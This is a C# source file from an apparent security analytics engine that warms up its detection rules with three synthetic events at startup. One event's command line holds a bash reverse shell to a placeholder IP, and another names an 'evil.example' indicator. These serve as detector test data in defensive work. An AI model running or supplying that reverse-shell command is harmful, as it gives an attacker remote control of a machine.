using System.Text;
using HelmAI.Analytics.RuleSets.Trial;
using HelmAI.Core.Administration;
using HelmAI.Core.Events;
using HelmAI.Core.Storage;

namespace HelmAI.Analytics.Processing;

/// <summary>
/// Events of nobody that are analysed before the first real ones, and stored nowhere: the runtime compiles code when it first runs, and rules
/// make their expressions when they first need them, which the first senders would otherwise wait for.
/// </summary>
internal static class WarmUp
{
    // Between them: a reported threat, an indicator, and a rule with an expression.
    private static readonly string[] Payloads =
    [
        """{"event_type":"threat","severity":"high","type":"malware","user_id":"nobody","indicators":["evil.example"]}""",
        """{"event_type":"file_created","user_id":"nobody","file":{"path":"/tmp/x","md5":"44d88612fea8a8f36de82e1278abb02f"}}""",
        """{"event_type":"process_start","user_id":"nobody","process_name":"bash","command_line":"bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"}""",
    ];

    /// <summary>Analyses them.</summary>
    /// <param name="rehearsal">Analyses without writing.</param>
    /// <param name="now">When they happened.</param>
    /// <param name="cancellationToken">Gives up.</param>
    /// <returns>What came of them.</returns>
    public static Task<IReadOnlyList<AnalysisResult>> RunAsync(Rehearsal rehearsal, DateTimeOffset now, CancellationToken cancellationToken) =>
        rehearsal.RunAsync([.. Payloads.Select(payload => Event(payload, now))], cancellationToken);

    private static SecurityEvent Event(string payload, DateTimeOffset now) => new()
    {
        Id = Guid.CreateVersion7(now),
        TenantId = Tenant.Default,
        ReceivedAt = now,
        Timestamp = now,
        UserId = "nobody",
        ReportsThreat = payload.Contains("\"threat\"", StringComparison.Ordinal),
        Payload = Encoding.UTF8.GetBytes(payload),
    };
}
